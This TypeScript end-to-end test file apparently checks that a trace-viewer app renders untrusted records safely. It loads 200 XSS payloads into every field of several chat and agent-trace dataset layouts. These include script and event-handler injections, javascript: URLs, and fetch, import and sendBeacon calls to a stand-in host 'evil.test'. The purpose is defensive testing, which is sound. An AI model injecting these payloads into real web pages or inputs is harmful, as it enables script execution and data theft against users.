import { expect, test } from '../pages/test'
import { TracesPage } from '../pages/traces'

/** Text is text: what a record holds never runs and never loads, in any field of any layout. */

const PAYLOADS = [
  'ran++',
  'window.ran++',
  'parent.ran++',
  'top.ran++',
  "self['ran']++",
  'fetch("//evil.test/x")',
  'import("//evil.test/x.js")',
  'navigator.sendBeacon("//evil.test/x")',
] as const
const WRAPS: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src="//evil.test/p.png" onload='${js}'>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `"><iframe srcdoc='<script>${js}</script>'>`,
  (js) => `<iframe src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}" autofocus onfocus=${js}>x</a>`,
  (js) => `javascript:${js}//`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<math><mtext><style><img src=x onerror=${js}></style></mtext></math>`,
  (js) => `<link rel=stylesheet href=//evil.test/a.css><style>@import "//evil.test/b.css"</style>${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<object data="//evil.test/o"></object><embed src="//evil.test/e">${js}`,
  (js) => `\${${js}}{{${js}}}{%${js}%}`,
  (js) => `';${js};'`,
  (js) => `]]>--><!--<script>${js}</script>`,
  (js) => `\u202e<img src=x onerror=${js}>\u0000`,
  (js) => `<template><script>${js}</script></template><base href=//evil.test/>`,
  (js) => `![x](//evil.test/m.png) [y](javascript:${js}) <//evil.test>`,
]
/** Each payload in each of its contexts. */
const HOSTILE = PAYLOADS.flatMap((js) => WRAPS.map((wrap) => wrap(js)))

const message = (role: string, content: unknown) => ({ role, content })

/** A record of each layout whose text fields all hold the same words. */
const RECORDS: Readonly<Record<string, (words: string) => unknown>> = {
  messages: (w) => ({
    image: w,
    question: w,
    answer: w,
    pred_ans: w,
    pred_output: [
      message('user', [{ type: 'text', text: w }]),
      message('assistant', `<think>${w}</think><answer>${w}</answer>`),
    ],
  }),
  sharegpt: (w) => ({
    conversations: [
      { from: 'human', value: `<image>${w}` },
      { from: 'gpt', value: w },
    ],
    images: [w],
    system: w,
  }),
  'generated-predictions': (w) => ({ prompt: `<|im_start|>user\n${w}<|im_end|>`, predict: w, label: w }),
  trl: (w) => ({
    prompt: [message('user', w)],
    completion: [message('assistant', w)],
    reward: 1,
    images: [{ path: w }],
  }),
  verl: (w) => ({ input: `user\n${w}\nassistant\n`, output: w, gts: w, score: 1, step: 1 }),
  'openai-batch': (w) => ({
    custom_id: w,
    response: { body: { model: w, choices: [{ message: message('assistant', w) }] } },
  }),
  atif: (w) => ({
    schema_version: 'ATIF-v1.7',
    agent: { name: w, version: w, model_name: w },
    session_id: w,
    steps: [
      { step_id: 1, source: 'user', message: w },
      { step_id: 2, source: 'agent', message: w, reasoning_content: w },
    ],
  }),
  'agent-messages': (w) => ({ id: w, messages: { agent: [message('user', w), message('assistant', w)] } }),
}

/** Everything that a trace has words for. */
function trace(words: string, index: number): unknown {
  const box = {
    kind: 'box',
    numbers: [0.1, 0.1, 0.4, 0.4],
    author: 'call',
    frame: { unit: 'unit', order: 'xyxy', of: 'original' },
  }
  const look = {
    id: 'r0.a0',
    kind: 'tool',
    name: words,
    arguments: { [words]: words },
    label: words,
    text: words,
    returned: words,
  }
  return {
    schema: 'loupe.trace/2',
    id: `${index} ${words}`,
    question: words,
    images: [{ id: 'i0', width: 100, height: 100, name: words, uri: words }],
    views: [{ id: 'v0', image: 'i0', parent: null, cropPx: [0, 0, 100, 100], receivedPx: null, uri: words }],
    producer: { model: words, dialect: words, note: words },
    item: { id: words, benchmark: words, domain: words },
    rounds: [
      {
        id: 'r0',
        view: 'v0',
        raw: words,
        prompt: words,
        thought: `${words} [0.1, 0.1, 0.4, 0.4]`,
        sketch: words,
        sections: [{ name: words, span: [0, 3] }],
        rois: [{ id: 'r0.b0', shape: { ...box, author: 'thought' }, label: words }],
        actions: [{ ...look, shapes: [box], executed: true, effective: null, received: 'v0' }],
        observation: { text: words, views: ['v0'] },
        answer: words,
        agent: words,
        complaints: [{ code: words, path: words, message: words }],
      },
    ],
    answer: { text: words },
    scores: { [words]: words },
    verdicts: { [words]: words },
    gold: { answers: [words], objects: [{ name: words, box: [0, 0, 1, 1], depth: 0.5 }] },
    group: { id: words, index: 0 },
    system: words,
  }
}

function fileOf(make: (words: string, index: number) => unknown): string {
  return `${HOSTILE.map((words, index) => JSON.stringify(make(words, index))).join('\n')}\n`
}

test('two hundred script injections in every field of a trace: nothing runs, nothing loads', async ({
  page,
  loupe,
}) => {
  test.setTimeout(300_000)
  expect(HOSTILE).toHaveLength(200)
  const traces = await TracesPage.opened(loupe)
  const nothingRan = await loupe.trap()
  await traces.openFiles([{ name: `${HOSTILE[2]}.jsonl`, text: fileOf(trace) }])
  await expect(traces.count).toHaveText('200 traces')
  await page.getByRole('button', { name: /^1 file/ }).click()
  await page.getByRole('tab', { name: 'Raw' }).click()
  for (let row = 0; row < HOSTILE.length; row += 1) {
    if (row === 100) await page.getByRole('tab', { name: 'Rounds' }).click()
    await loupe.keys('j')
  }
  await expect(page).toHaveURL(/\/trace\/199/)
  await traces.scores.click()
  await page.getByLabel('By', { exact: true }).selectOption('producer')
  await expect(page.locator('.run-table')).toBeVisible()
  await nothingRan()
})

for (const [layout, make] of Object.entries(RECORDS)) {
  test(`two hundred script injections in every field of ${layout}: nothing runs, nothing loads`, async ({
    page,
    loupe,
  }) => {
    const traces = await TracesPage.opened(loupe)
    const nothingRan = await loupe.trap()
    await traces.openFiles([{ name: 'hostile.jsonl', text: fileOf(make) }])
    await expect(traces.count).toHaveText(/^200 traces$/)
    // Each context once; the list shows those of all.
    for (let row = 0; row < WRAPS.length; row += 1) await loupe.keys('j')
    await page.keyboard.press('End')
    await nothingRan()
  })
}
